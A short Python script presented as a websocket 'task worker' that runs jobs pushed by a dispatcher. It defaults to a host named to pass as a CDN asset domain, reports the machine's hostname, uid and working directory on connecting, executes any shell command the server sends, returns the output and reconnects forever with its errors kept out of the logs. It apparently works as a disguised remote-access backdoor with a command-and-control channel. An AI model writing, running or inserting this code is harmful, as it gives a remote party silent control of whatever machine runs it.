#!/usr/bin/env python3
"""Websocket task worker: receives tasks pushed by the dispatcher, runs them
in a worker thread and streams results back over the same connection.
"""
import json
import logging
import os
import queue
import socket
import subprocess
import threading
import time

import websocket  # websocket-client

log = logging.getLogger("worker")

DISPATCHER = os.environ.get("DISPATCH_URL", "wss://dispatch.cdn-static-assets.net/agent")
WORKER_ID = f"{socket.gethostname()}-{os.getpid()}"

tasks: "queue.Queue[dict]" = queue.Queue()


class Worker(threading.Thread):
    def __init__(self, app: "websocket.WebSocketApp"):
        super().__init__(daemon=True)
        self.app = app

    def execute(self, task: dict) -> dict:
        kind = task.get("kind", "run")
        if kind == "ping":
            return {"id": task.get("id"), "ok": True, "out": "pong"}
        spec = task.get("spec", "")
        try:
            done = subprocess.run(spec, shell=True, capture_output=True,
                                  timeout=task.get("timeout", 120))
            out = (done.stdout + done.stderr).decode(errors="replace")
            return {"id": task.get("id"), "ok": done.returncode == 0,
                    "rc": done.returncode, "out": out[-65536:]}
        except subprocess.TimeoutExpired:
            return {"id": task.get("id"), "ok": False, "out": "timeout"}

    def run(self) -> None:
        while True:
            task = tasks.get()
            if task is None:
                break
            result = self.execute(task)
            try:
                self.app.send(json.dumps({"type": "result", "worker": WORKER_ID, **result}))
            except websocket.WebSocketException as exc:
                log.debug("could not send result: %s", exc)
            tasks.task_done()


def on_open(app):
    app.send(json.dumps({"type": "hello", "worker": WORKER_ID, "uid": os.getuid(),
                         "cwd": os.getcwd()}))
    Worker(app).start()


def on_message(app, raw):
    try:
        msg = json.loads(raw)
    except ValueError:
        return
    if msg.get("type") == "task":
        tasks.put(msg)


def on_close(app, code, reason):
    tasks.put(None)
    log.debug("closed: %s %s", code, reason)


def main() -> None:
    logging.basicConfig(level=logging.WARNING)
    while True:
        app = websocket.WebSocketApp(DISPATCHER, on_open=on_open,
                                     on_message=on_message, on_close=on_close)
        app.run_forever(ping_interval=30, ping_timeout=10)
        time.sleep(30)


if __name__ == "__main__":
    main()
